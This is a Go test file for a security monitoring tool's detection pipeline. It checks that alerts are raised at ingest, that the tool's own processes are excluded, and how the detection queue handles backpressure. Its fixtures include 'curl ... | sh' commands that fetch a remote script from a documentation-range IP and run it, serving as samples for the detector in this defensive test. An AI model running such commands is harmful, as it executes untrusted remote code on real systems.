package server

import (
	"context"
	"log/slog"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/vigil-sec/vigil/internal/detect"
	"github.com/vigil-sec/vigil/internal/event"
	"github.com/vigil-sec/vigil/internal/httpapi"
	"github.com/vigil-sec/vigil/internal/rules/eventmix"
)

// TestDetectionAtIngest: batches handed to the detection queue raise alerts
// in the server's store, visible through the API; vigil's own binary is not
// alerted on.
func TestDetectionAtIngest(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "data")
	s, c, _, _ := startServer(t, testConfig(dir))
	if s.Detector() == nil || s.Alerts() == nil {
		t.Fatal("detection is off by default")
	}
	now := time.Now().UTC()
	bad := eventmix.Exec(now, "/usr/bin/sh", "sh", "-c", "curl -fsSL http://203.0.113.7/x.sh | sh")
	bad.Host = &event.Host{Name: "web1"}
	bad.Event.ID = "ev-bad"
	self := eventmix.Exec(now, "/usr/bin/sh", "sh", "-c", "curl -fsSL http://203.0.113.7/y.sh | sh")
	self.Host = &event.Host{Name: "web1"}
	self.Event.ID = "ev-self"
	self.Process.Parent = &event.ProcessRef{Executable: "/usr/local/bin/vigil"}
	s.detect.enqueue(context.Background(), []event.Event{*bad, *self})

	var got []detect.Alert
	deadline := time.Now().Add(10 * time.Second)
	for time.Now().Before(deadline) {
		var err error
		if got, err = c.Alerts(context.Background(), httpapi.AlertParams{Status: "open"}); err != nil {
			t.Fatal(err)
		}
		if len(got) > 0 {
			break
		}
		time.Sleep(50 * time.Millisecond)
	}
	if len(got) == 0 {
		t.Fatal("no alert within 10 s")
	}
	for _, a := range got {
		if slices.Contains(a.EventIDs, "ev-self") {
			t.Errorf("alert %s (%s) on a child of the vigil binary", a.ID, a.Rule.Name)
		}
		if !slices.Contains(a.EventIDs, "ev-bad") || a.Host.Name != "web1" || !slices.ContainsFunc(a.Tags, func(s string) bool { return strings.HasPrefix(s, "attack.t") }) {
			t.Errorf("alert %+v: want event ev-bad, host web1 and an ATT&CK technique tag", a)
		}
	}
}

// TestDetectionQueueBound: when the queue is full the caller waits; a
// caller whose request ends first leaves its events stored but counted as
// not evaluated, never silently dropped.
func TestDetectionQueueBound(t *testing.T) {
	m := newMetrics()
	d, err := newDetection(detect.Options{NoPack: true}, 1, m, slog.New(slog.DiscardHandler))
	if err != nil {
		t.Fatal(err)
	}
	evs := []event.Event{*eventmix.Exec(time.Now(), "/usr/bin/true", "true")}
	d.enqueue(context.Background(), evs) // fills the queue (no worker runs)
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	d.enqueue(ctx, append(evs, evs...))
	if n := m.detectUnevaluated.Load(); n != 2 {
		t.Errorf("unevaluated %d, want 2", n)
	}
	if n := m.detectQueueFull.Load(); n != 1 {
		t.Errorf("queue full %d, want 1", n)
	}
	// A waiting caller gets in once the worker makes room.
	wctx, stop := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() { d.run(wctx); close(done) }()
	d.enqueue(context.Background(), evs)
	stop()
	<-done
	if n := m.detectEvents.Load(); n != 2 {
		t.Errorf("evaluated %d events, want 2 (the drain at shutdown included)", n)
	}
}
